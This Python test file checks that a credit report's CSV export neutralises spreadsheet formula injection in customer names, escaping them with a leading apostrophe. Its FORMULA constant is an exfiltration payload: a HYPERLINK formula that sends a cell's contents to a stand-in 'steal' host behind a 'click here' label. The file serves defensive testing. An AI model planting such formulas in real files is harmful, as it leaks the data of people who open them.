"""A report's CSV opens in a spreadsheet without running what a customer's name holds."""

from __future__ import annotations

import csv
import io

from reporting_testkit import MANAGER, Month

FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"点这里")'


async def test_a_customer_named_as_a_formula_is_exported_as_text(h) -> None:
    month = Month()
    registered = month.customer(
        "cx", "r1", "d1", "a1", grade="A", channel="retail", approved="2026-06-01", rating="AA", limit=100_000
    )
    registered[0][1].data["name"] = FORMULA
    await h.feed(month.organisation() + registered)
    response = await h.get("/reports/credit", MANAGER, group_by="customer", format="csv")
    assert response.status_code == 200, response.text
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["customer_name"] == "'" + FORMULA
    assert row["credit_limit_fen"] == "100000"  # numbers stay numbers
